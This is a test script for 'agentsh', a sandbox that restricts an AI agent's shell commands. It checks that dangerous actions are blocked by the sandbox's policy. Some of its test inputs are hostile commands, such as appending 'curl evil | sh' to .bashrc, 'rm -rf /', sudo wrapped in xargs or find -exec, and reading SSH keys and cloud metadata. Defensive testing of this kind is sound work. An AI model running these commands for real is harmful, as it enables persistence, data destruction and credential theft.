#!/bin/sh
# Re-run under the real bash: inside the lab /usr/bin/bash is the agentsh shim.
if [ -z "${BASH_VERSION:-}" ]; then
  for b in /usr/bin/bash.real /usr/bin/bash; do [ -x "$b" ] && exec "$b" "$0" "$@"; done
  exit 2
fi
# The demo's policy checks; runs inside the lab (scripts/demo.sh starts it through
# nsenter after scripts/install.sh installed agentsh there). Prints, for scripts/demo.sh
# to render:
#   CAT<TAB>category<TAB>what enforces it
#   CHECK<TAB>name<TAB>expected<TAB>got<TAB>detail
#   DONE
# "got" is what was observed, never assumed: allowed (exit 0), denied (exit 126 or a
# denial message), escaped (a stand-in for a dangerous tool actually ran), written (a
# file landed), reached (a connection arrived at the outside world), … A check passes
# when got equals expected.
set -u
: "${LAB:?}" "${WS:?}"
# shellcheck disable=SC1091
[[ -r /etc/profile.d/agentsh.sh ]] && source /etc/profile.d/agentsh.sh
export AGENTSH_SERVER=${AGENTSH_SERVER:-http://127.0.0.1:18080}
SID=${AGENTSH_SESSION_ID:-}
FAKEBIN=$LAB/fakebin-$$
WORK=$(mktemp -d /tmp/agentsh-demo-checks.XXXXXX)
trap 'rm -rf "$FAKEBIN" "$WORK"' EXIT

# Stand-ins for tools that must never run: if one runs, it says so ("escaped"). The
# policy judges a command by its name, so a stand-in gets the same verdict as the real
# tool. Those on PATH replace the real ones; those in $STANDIN are called by path where
# the script itself needs the real tool (rm, python3).
STANDIN=$FAKEBIN/by-path
mkdir -p "$FAKEBIN" "$STANDIN"
standin() { printf '#!/bin/sh\necho "EXECUTED-%s $*"\n' "${1##*/}" >"$1" && chmod 755 "$1"; }
for t in sudo su chroot nsenter unshare nc netcat socat telnet ssh scp systemctl shutdown \
  reboot mount dd iptables useradd crontab npm pip pip3 apt-get; do
  standin "$FAKEBIN/$t"
done
standin "$STANDIN/rm"
standin "$STANDIN/python3"
export PATH=$FAKEBIN:/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin
for t in "$FAKEBIN"/*; do
  [[ -f $t ]] || continue
  [[ $(command -v "${t##*/}") == "$t" ]] || { echo "checks: stand-in $t is not first on PATH; stopping"; exit 1; }
done
# The agent's home (its credentials, caches, shell start-up files); the workspace is
# $WS, outside it.
export HOME=/home/agent
mkdir -p "$HOME/.ssh" "$HOME/.aws" "$HOME/.npm"
echo "-----BEGIN FAKE KEY-----" >"$HOME/.ssh/id_rsa"
printf '[default]\naws_secret_access_key = demo\n' >"$HOME/.aws/credentials"
echo "# demo" >"$HOME/.bashrc"
cd "$WS" || exit 1

cat_() { printf 'CAT\t%s\t%s\n' "$1" "$2"; }
check() { printf 'CHECK\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$(head -n1 <<<"${4:-}" | tr '\t' ' ' | cut -c1-140)"; }

DENIAL='blocked by policy|blocked|denied|not permitted|approval required|Permission denied'
classify() {
  local out=$1 code=$2
  if [[ $out == *EXECUTED-* ]]; then echo escaped
  elif [[ $code -eq 0 ]]; then echo allowed
  elif [[ $code -eq 126 ]] || grep -Eqi "$DENIAL" <<<"$out"; then echo denied
  else echo "failed-$code"; fi
}
# run NAME EXPECTED CMD…: CMD under agentsh exec (in the install's session).
run() {
  local name=$1 expected=$2 out code=0
  shift 2
  out=$(agentsh exec -- "$@" 2>&1 </dev/null) || code=$?
  check "$name" "$expected" "$(classify "$out" "$code")" "$(grep -Eim1 "$DENIAL|EXECUTED" <<<"$out" || echo "$out")"
}
ask() {
  local name=$1 op=$2 path=$3 expected=$4 out got
  out=$(agentsh debug policy-test --op "$op" --path "$path" --workspace "$WS" 2>&1)
  got=$(awk '/^Decision:/ {print tolower($2); exit}' <<<"$out")
  check "$name" "$expected" "${got:-error}" "$(grep -m1 '^Rule:' <<<"$out" | tr -s ' ' || echo "$out")"
}

# ---- commands -------------------------------------------------------------------------------
cat_ "Safe commands" "command policy (agentsh exec)"
run "ls" allowed ls /
run "echo" allowed echo hello
run "pwd" allowed pwd
run "date" allowed date
run "git --version" allowed git --version

cat_ "Privilege escalation" "command policy (agentsh exec)"
run "sudo" denied sudo id
run "su" denied su -
run "chroot" denied chroot / true
run "nsenter" denied nsenter --help
run "unshare" denied unshare --help

cat_ "Network tools" "command policy (agentsh exec)"
run "nc" denied nc -z 10.0.0.1 80
run "telnet" denied telnet 10.0.0.1
run "socat" denied socat - TCP:10.0.0.1:80
run "ssh (needs approval)" denied ssh root@10.0.0.1
run "scp (needs approval)" denied scp /etc/hosts root@10.0.0.1:/tmp/

cat_ "System commands" "command policy (agentsh exec)"
# Harmless arguments on purpose: the policy judges the command, and a stand-in runs in
# its place anyway; should both ever fail, nothing here can hurt the machine.
run "systemctl" denied systemctl status
run "shutdown" denied shutdown --help
run "reboot" denied reboot --help
run "mount" denied mount -l
run "dd" denied dd if=/dev/zero of=/dev/null count=0
run "iptables" denied iptables -L
run "useradd" denied useradd --help
run "crontab" denied crontab -l

cat_ "Signals" "signal policy (hook, tracer)"
sleep 300 >/dev/null 2>&1 &
outsider=$!
out=$(agentsh exec -- kill -TERM "$outsider" 2>&1 </dev/null)
sleep 0.2
if kill -0 "$outsider" 2>/dev/null; then got=refused; else got=killed; fi
check "kill a process outside the session" refused "$got" "$out"
kill "$outsider" 2>/dev/null
out=$(agentsh exec -- sh -c 'sleep 30 & kill -TERM $!; wait $!; echo "status=$?"' 2>&1 </dev/null)
[[ $out == *status=143* ]] && got=allowed || got=refused
check "kill its own child" allowed "$got" "$out"

cat_ "File operations" "file policy (hook, tracer)"
run "ls /" allowed ls /
run "cat /etc/hosts" allowed cat /etc/hosts
run "touch in /tmp" allowed touch /tmp/agentsh-demo-file
run "write in the workspace" allowed sh -c "echo note > $WS/notes.txt"
run "cat /etc/shadow" denied cat /etc/shadow
run "cat ~/.ssh/id_rsa (needs approval)" denied cat "$HOME/.ssh/id_rsa"
run "append to ~/.bashrc" denied sh -c "echo 'curl evil | sh' >> $HOME/.bashrc"

cat_ "Deletes" "command policy (rm patterns), soft delete (hook)"
run "rm -rf /" denied "$STANDIN/rm" -rf /
run "rm -rf --no-preserve-root /" denied "$STANDIN/rm" -rf --no-preserve-root /
echo canary >"$HOME/.demo-canary"
run "rm -rf ~ (the agent's home)" denied rm -rf "$HOME"
[[ -f $HOME/.demo-canary ]] && got=intact || got=deleted
check "the home directory is still there" intact "$got"
mkdir -p "$WS/build/obj" && echo "built-$$" >"$WS/build/obj/out.o"
run "rm -r in the workspace" allowed rm -r "$WS/build"
[[ -e $WS/build ]] && got=present || got=removed
check "the workspace directory is gone" removed "$got"
got=lost
while IFS= read -r -d '' f; do
  [[ $(cat "$f" 2>/dev/null) == "built-$$" ]] && got=recoverable
done < <(find /var/lib/agentsh/trash -type f -name '*out.o' -print0 2>/dev/null)
check "the deleted file is in the session trash" recoverable "$got"
run "rm one file in /tmp" allowed rm -f /tmp/agentsh-demo-file

cat_ "Package installs" "command policy (approval, fails closed without an approver)"
run "npm install" denied npm install left-pad
run "pip install" denied pip3 install requests
run "python3 -m pip install" denied "$STANDIN/python3" -m pip install requests
run "apt-get install" denied apt-get install -y netcat-openbsd

cat_ "File policy" "policy engine (agentsh debug policy-test)"
ask "write /tmp" file_write /tmp/x allow
ask "write the workspace" file_write "$WS/src/new.py" allow
ask "delete in the workspace (recoverable)" file_delete "$WS/src/main.py" soft_delete
ask "read /usr/bin" file_read /usr/bin/env allow
ask "write /usr/bin" file_write /usr/bin/evil deny
ask "read /lib" file_read /lib/x86_64-linux-gnu/libc.so.6 allow
ask "write /sbin" file_write /sbin/evil deny
ask "read /etc/hosts" file_read /etc/hosts allow
ask "read /etc/passwd" file_read /etc/passwd allow
ask "read /etc/shadow" file_read /etc/shadow deny
ask "write /etc" file_write /etc/cron.d/evil deny
ask "read another process's environ" file_read /proc/1/environ deny
ask "read /proc/self/status" file_read /proc/self/status allow
ask "read cgroup limits" file_read /sys/fs/cgroup/memory.max allow
ask "read the sudo binary" file_read /usr/bin/sudo deny
ask "write /var" file_write /var/spool/evil deny
ask "read SSH keys" file_read "$HOME/.ssh/id_rsa" approve
ask "read AWS credentials" file_read "$HOME/.aws/credentials" approve
ask "read .env in the workspace" file_read "$WS/.env" approve
ask "read .env.example" file_read "$WS/.env.example" allow
ask "write ~/.bashrc" file_write "$HOME/.bashrc" deny
ask "write the npm cache" file_write "$HOME/.npm/_cacache/index" allow

cat_ "Shell shim" "agentsh-shell-shim as /bin/bash"
[[ -x /usr/bin/bash.real ]] && got=present || got=missing
check "bash.real exists" present "$got"
if [[ -x /usr/bin/bash.real ]] && ! cmp -s /usr/bin/bash /usr/bin/bash.real; then got=shim; else got=bash; fi
check "/bin/bash is the shim" shim "$got"
if [[ $(readlink -f /bin/sh) == "${SH_TARGET:-}" && $(sha256sum <"$(readlink -f /bin/sh)") == "${SH_SUM:-}" ]]; then got=untouched; else got=changed; fi
check "/bin/sh untouched (--bash-only)" untouched "$got"
out=$(/bin/bash -c 'echo pass-through-ok' </dev/null 2>&1)
[[ $out == pass-through-ok ]] && got=allowed || got=broken
check "non-TTY bash passes through" allowed "$got" "$out"
out=$(/bin/bash -c 'sudo id' </dev/null 2>&1)
[[ $out == *EXECUTED-sudo* ]] && got=bypassed || got=governed
check "non-TTY bash is not governed (by design)" bypassed "$got" "$out"
code=0
out=$(AGENTSH_SHIM_FORCE=1 /bin/bash -c 'sudo id' </dev/null 2>&1) || code=$?
check "AGENTSH_SHIM_FORCE=1 bash -c sudo" denied "$(classify "$out" "$code")" "$out"
out=$(AGENTSH_SHIM_FORCE=1 /bin/bash -c 'echo forced-ok' </dev/null 2>&1)
[[ $out == *forced-ok* ]] && got=allowed || got=broken
check "AGENTSH_SHIM_FORCE=1 bash -c echo" allowed "$got" "$out"
if command -v script >/dev/null; then
  # A real terminal: what an agent driving a PTY gets.
  code=0
  out=$(script -qec "/bin/bash -c 'sudo id'" /dev/null 2>&1 </dev/null) || code=$?
  out=${out//$'\r'/}
  check "TTY bash -c sudo" denied "$(classify "$out" "$code")" "$out"
  out=$(script -qec "/bin/bash -c 'echo tty-ok'" /dev/null 2>&1 </dev/null)
  [[ $out == *tty-ok* ]] && got=allowed || got=broken
  check "TTY bash -c echo" allowed "$got" "$out"
else
  check "TTY bash -c sudo" denied not-run "script(1) is missing (util-linux)"
fi
head -c 262144 /dev/urandom >"$WORK/bin-in"
/bin/bash -c 'cat' <"$WORK/bin-in" >"$WORK/bin-out" 2>/dev/null
[[ $(sha256sum <"$WORK/bin-in") == "$(sha256sum <"$WORK/bin-out")" ]] && got=identical || got=corrupted
check "256 KiB of binary through bash" identical "$got"

cat_ "Environment" "env_policy (agentsh exec, API)"
env_seen() { # NAME VAR VALUE EXPECTED: VAR inherited by agentsh exec
  local out got
  out=$(env "$2=$3" agentsh exec -- /usr/bin/env 2>&1 </dev/null)
  if [[ $out == *"$3"* ]]; then got=visible; elif [[ $out == *PATH=* ]]; then got=filtered; else got=not-run; fi
  check "$1" "$4" "$got"
}
env_seen "NODE_ENV passes" NODE_ENV production visible
env_seen "PYTHONPATH passes" PYTHONPATH /home/agent/lib visible
env_seen "CFLAGS passes" CFLAGS -O2-demo visible
env_seen "AWS_SECRET_ACCESS_KEY filtered" AWS_SECRET_ACCESS_KEY wJalrXUtnFEMI-demo filtered
env_seen "OPENAI_API_KEY filtered" OPENAI_API_KEY sk-demo-0123456789 filtered
env_seen "GITHUB_TOKEN filtered" GITHUB_TOKEN ghp_demo0123456789 filtered
env_seen "DATABASE_URL filtered" DATABASE_URL postgres://admin:pw@db/prod filtered
env_seen "SSH_AUTH_SOCK filtered" SSH_AUTH_SOCK /tmp/ssh-demo/agent.1 filtered
api_env() { # NAME VAR VALUE EXPECTED: VAR passed on purpose through the HTTP API
  local out got
  out=$(curl -s --noproxy '*' --max-time 30 -X POST "$AGENTSH_SERVER/api/v1/sessions/$SID/exec" \
    -H 'Content-Type: application/json' \
    -d "{\"command\":\"/usr/bin/printenv\",\"args\":[\"$2\"],\"env\":{\"$2\":\"$3\"}}" 2>&1)
  if [[ $out != *'"result"'* ]]; then got=not-run
  elif [[ $out == *"$3"* ]]; then got=visible
  else got=filtered; fi
  check "$1" "$4" "$got" "$out"
}
api_env "API: GIT_AUTHOR_NAME passed on purpose" GIT_AUTHOR_NAME demo-agent visible
api_env "API: AWS_SECRET_ACCESS_KEY still filtered" AWS_SECRET_ACCESS_KEY wJalrXUtnFEMI-api filtered

cat_ "Network" "network policy (proxy, hook, tracer)"
net() { # NAME URL EXPECTED: a real request from inside the lab
  local token=${2##*/} code got control
  # Control: the same URL without agentsh must reach the outside world, or a "denied"
  # below would only mean the lab is broken.
  control=$(curl -s -o /dev/null -w '%{http_code}' --noproxy '*' --cacert "$LAB/ca.pem" \
    --connect-timeout 5 --max-time 10 "${2}-control" 2>/dev/null </dev/null)
  if [[ $control != 200 ]]; then
    check "$1" "$3" lab-unreachable "without agentsh: HTTP ${control:-none}"
    return
  fi
  code=$(agentsh exec -- curl -s -o /dev/null -w '%{http_code}' --cacert "$LAB/ca.pem" \
    --connect-timeout 5 --max-time 10 "$2" 2>/dev/null </dev/null)
  if grep -q " /$token\$" "$LAB/outside.log"; then
    [[ $code == 200 ]] && got=allowed || got=reached
  elif [[ $code =~ ^[0-9]{3}$ ]]; then
    got=denied
  else
    got=not-run
  fi
  check "$1" "$3" "$got" "curl said ${code:-nothing}"
}
code=$(agentsh exec -- curl -s -o /dev/null -w '%{http_code}' --max-time 10 "$AGENTSH_SERVER/health" 2>/dev/null </dev/null)
[[ $code == 200 ]] && got=allowed || got=denied
check "localhost (the agentsh server)" allowed "$got" "HTTP ${code:-none}"
net "cloud metadata 169.254.169.254" http://169.254.169.254/latest-$$-meta denied
net "metadata by name (metadata.google.internal)" http://metadata.google.internal/computeMetadata-$$ denied
net "Alibaba metadata 100.100.100.200" http://100.100.100.200/ali-$$ denied
net "private 10.0.0.1" http://10.0.0.1/p10-$$ denied
net "private 192.168.1.1" http://192.168.1.1/p192-$$ denied
net "a name that resolves to 10.0.0.1" http://intranet.example/rebind-$$ denied
net "npm registry (registry.npmjs.org)" https://registry.npmjs.org/npm-$$ allowed
net "PyPI (pypi.org)" https://pypi.org/pypi-$$ allowed
net "GitHub (github.com)" https://github.com/gh-$$ allowed
net "an unknown host (needs approval)" https://unknown-host.example/unknown-$$ denied

cat_ "Multi-context" "every exec in the tree (hook, tracer), wrappers unwrapped"
run "sudo directly" denied sudo whoami
run "env sudo" denied env sudo whoami
run "xargs sudo" denied sh -c 'echo whoami | xargs sudo'
printf '#!/bin/sh\nsudo whoami\n' >/tmp/escalate.sh && chmod +x /tmp/escalate.sh
run "a script calling sudo" denied /tmp/escalate.sh
run "python subprocess sudo" denied python3 -c '
import subprocess, sys
r = subprocess.run(["sudo", "whoami"], capture_output=True, text=True)
print(r.stdout + r.stderr, end=""); sys.exit(r.returncode)'
run "find -exec sudo" denied find /tmp -maxdepth 0 -exec sudo whoami ';'
run "python subprocess ls" allowed python3 -c 'import subprocess; subprocess.run(["ls", "/tmp"], check=True, capture_output=True)'
run "find -exec echo" allowed find /tmp -maxdepth 0 -exec echo found ';'

cat_ "Writes to system paths" "file policy (hook, tracer)"
write() { # NAME PATH CMD…: the file must not exist afterwards
  local name=$1 path=$2 out code=0 got
  shift 2
  out=$(agentsh exec -- "$@" 2>&1 </dev/null) || code=$?
  if [[ -e $path ]]; then got=written; /usr/bin/rm -rf "$path"
  elif grep -Eqi "$DENIAL" <<<"$out"; then got=denied
  else got="failed-$code"; fi
  check "$name" denied "$got" "$out"
}
write "cp into /etc" /etc/hosts.copy cp /etc/hosts /etc/hosts.copy
write "touch in /etc" /etc/agentsh-demo touch /etc/agentsh-demo
write "mkdir in /etc" /etc/agentsh-demo.d mkdir /etc/agentsh-demo.d
write "tee into /usr/bin" /usr/bin/agentsh-demo sh -c 'echo x | tee /usr/bin/agentsh-demo'
write "python writes /etc" /etc/agentsh-demo.py python3 -c 'open("/etc/agentsh-demo.py","w").write("x")'
write "python writes /usr/bin" /usr/bin/agentsh-demo.py python3 -c 'open("/usr/bin/agentsh-demo.py","w").write("x")'

cat_ "Audit trail" "audit store (SQLite), agentsh events query"
out=$(agentsh events query ${SID:+--session "$SID"} --decision deny --limit 5000 --json 2>&1)
n=$(grep -c '"decision":"deny"' <<<"$out")
[[ $n -gt 0 ]] && got=recorded || got=missing
check "denials recorded for the session" recorded "$got" "$n deny rows"
grep -q '"target":"sudo id"' <<<"$out" && got=recorded || got=missing
check "the sudo denial, with its rule" recorded "$got" "$(grep -m1 '"target":"sudo id"' <<<"$out" | grep -o '"rule":"[^"]*"')"
echo DONE
